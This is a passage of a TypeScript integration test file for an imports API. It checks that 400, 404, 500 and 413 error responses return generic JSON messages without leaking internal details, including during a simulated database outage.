        ...(body === undefined ? {} : { body: typeof body === 'string' ? body : new Uint8Array(body) }),
      });
      const text = await response.text();

      // Assess
      expect(response.status).toBe(status);
      expectNoLeak({ status: response.status, headers: response.headers, text });
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(errorBody.parse(JSON.parse(text)).error.code).toBe(status === 400 ? 'BAD_REQUEST' : 'NOT_FOUND');
    },
  );

  // Takes the stack's DynamoDB emulator down for good: only tests that need no store may follow.
  it('answers a store outage with a 500 that names a request id and nothing of the failure', async () => {
    // Prepare
    const killed = await stack.killChildProcess(/dynamodb-child/);

    // Act
    const withLogs = async (call: Promise<ApiResult>): Promise<ApiResult> => {
      try {
        return await call;
      } catch (error) {
        throw new Error(`${String(error)}\n${stack.logs().slice(-6000)}`);
      }
    };
    const list = await withLogs(stack.get('/api/imports', admin));
    const one = await withLogs(stack.get(`/api/imports/${UNKNOWN_ID}`, admin));
    const create = await withLogs(
      stack.post('/api/imports', { templateId: 'users', fileName: 'x.csv', fileSize: 10 }, admin),
    );

    // Assess
    expect(killed).toHaveLength(1);
    for (const result of [list, one, create]) {
      expect(result.status).toBe(500);
      expectNoLeak(result);
      const { code, message } = errorBody.parse(result.body).error;
      expect(code).toBe('INTERNAL');
      expect(message).toMatch(/^Something went wrong on our side \(request id [0-9a-f-]{36}\)\./);
    }
    expect(stack.logs()).toContain('Request failed unexpectedly');
  });

  // After the outage on purpose: the gateway answers 413 before the function runs, and this client's
  // connection is not reused afterwards (it may still hold the unread rest of the body).
  it('refuses an oversize body before the function runs, with a plain JSON message', async () => {
    // Act
    const response = await fetch(`${stack.baseUrl}/api/imports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
      body: `{"fileName":"${'a'.repeat(11 * 1024 * 1024)}"}`,
    });
    const text = await response.text();

    // Assess
    expect(response.status).toBe(413);
    expectNoLeak({ status: response.status, headers: response.headers, text });
    expect(JSON.parse(text)).toEqual({ message: 'Request Entity Too Large' });
  });
});
